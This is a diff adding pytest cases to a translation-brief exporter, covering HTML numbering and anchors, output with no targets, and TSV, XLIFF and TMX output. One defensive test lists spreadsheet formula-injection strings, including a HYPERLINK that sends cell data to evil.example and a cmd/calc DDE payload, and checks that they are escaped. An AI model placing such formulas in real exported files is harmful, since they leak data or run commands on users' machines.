@@ -115,6 +115,12 @@ def test_html_layout(brief):
                     assert item == f.code + f.message  # and as visible text
             else:
                 assert "flagged" not in cell.get("class") and cell.get("title") is None
+    # Rows are numbered from 1, as in brief.md; anchors keep brief.json's 0-based index.
+    labels = [tr.xpath("./td[@class='num']/a")[0] for tr in rows]
+    assert [a.text_content() for a in labels] == ["Title"] + [str(s.index + 1) for s in brief.segments]
+    assert [a.get("href") for a in labels[1:]] == [f"#seg-{s.index}" for s in brief.segments]
+    review = [a.text_content() for a in doc.xpath("//section[contains(@class,'review-first')]//a")]
+    assert "#2 · Pashto" in review and "#0 · Pashto" not in review  # brief.segments[1]
     # Real Urdu/Pashto/Dari text as UTF-8 characters, not escapes.
     page = _page(brief)
     for seg in brief.segments:
@@ -158,6 +164,17 @@ def test_html_without_title_back_translations_or_models():
     assert len(rows) == len(brief.segments) and rows[0].get("id") == "seg-0"
     assert doc.xpath("//div[@class='bt']") == []
     assert "Removed from the article" not in doc.text_content()
+
+
+def test_html_without_targets_says_not_translated():
+    brief = make_review_brief(back=False, checked=False)  # what --no-translate makes
+    brief.targets = []
+    for seg in [brief.title, *brief.segments]:
+        seg.targets = {}
+    doc = lxml_html.fromstring(_page(brief))
+    meta = doc.xpath("//header/p[@class='meta']")[0].text_content()
+    assert "not translated" in meta and "targets:" not in meta
+    assert len(doc.xpath("//table[contains(@class,'brief')]/thead//th")) == 2
 
 
 def test_html_missing_target_is_shown_not_fatal(brief):
@@ -225,6 +242,21 @@ def test_tsv(brief):
     assert rows[2][6].startswith("language: ")
     assert GOOD[1][3] in text and "\\u06" not in text  # UTF-8 text, not escapes
     assert not data.startswith(b"\xef\xbb\xbf")
+
+
+def test_tsv_cells_never_start_a_spreadsheet_formula(brief):
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\uff1d1+1"]
+    for text in attacks:
+        assert escape_field(text) == "\\" + text and unescape_field(escape_field(text)) == text
+    assert escape_field("a = b - c") == "a = b - c"  # only a first character counts
+    brief.segments[0].source = attacks[0]
+    brief.segments[1].targets["ur"].text = attacks[1]
+    brief.segments[2].targets["ps"].text = "\t" + attacks[2]  # a tab (escaped to backslash-t), then a formula
+    data = TsvWriter().render(brief)["brief.tsv"]
+    cells = [cell for line in data.decode("utf-8").splitlines() for cell in line.split("\t")]
+    assert cells and not [c for c in cells if c and c[0] in "=+-@\uff1d"]
+    rows = parse_tsv(data)
+    assert rows[1][0] == attacks[0] and rows[2][1] == attacks[1] and rows[3][3] == "\t" + attacks[2]
 
 
 def test_tsv_without_back_translations():
@@ -376,3 +408,35 @@ def test_rtl_text_in_flag_messages_is_isolated():
     doc = lxml_html.fromstring(_page(brief))
     cell = doc.xpath("//tr[@id='seg-1']/td[@lang='ps']")[0]
     assert cell.xpath(".//ul[@class='flags']//bdi")
+
+
+# --- one document on stdout ---------------------------------------------------------------------
+
+
+def test_xliff_on_stdout_is_one_document_with_a_file_per_target(brief):
+    from translate.storage import xliff
+
+    data = XliffWriter().to_stdout(brief)
+    root = etree.fromstring(data)  # one well-formed document, no "==>" separators
+    files = root.findall(f"{{{XLIFF_NS}}}file")
+    assert [f.get("target-language") for f in files] == [TAGS[t.short] for t in brief.targets]
+    separate = XliffWriter().render(brief)
+    for filenode, t in zip(files, brief.targets):
+        alone = etree.fromstring(separate[f"brief.{t.short}.xlf"]).find(f"{{{XLIFF_NS}}}file")
+        assert etree.tostring(filenode) == etree.tostring(alone)
+    assert len(xliff.xlifffile.parsestring(data).units) == 3 * (1 + len(brief.segments))
+
+
+def test_tmx_on_stdout_takes_one_target(tiny_config, tmp_path):
+    from click.testing import CliRunner
+
+    from summarize.cli import main
+    from tests.conftest import SEED
+
+    base = ["run", str(SEED), "--models", str(tiny_config), "--offline", "-f", "tmx", "-o", "-"]
+    result = CliRunner().invoke(main, base)
+    assert result.exit_code == 2 and "--targets ur" in result.stderr and "<tmx" not in result.stdout
+    result = CliRunner().invoke(main, [*base, "--targets", "ps"])
+    assert result.exit_code == 0, result.output
+    tuvs = etree.fromstring(result.stdout_bytes).xpath("//tuv/@xml:lang", namespaces={"xml": "http://www.w3.org/XML/1998/namespace"})
+    assert set(tuvs) == {"en", "ps"}
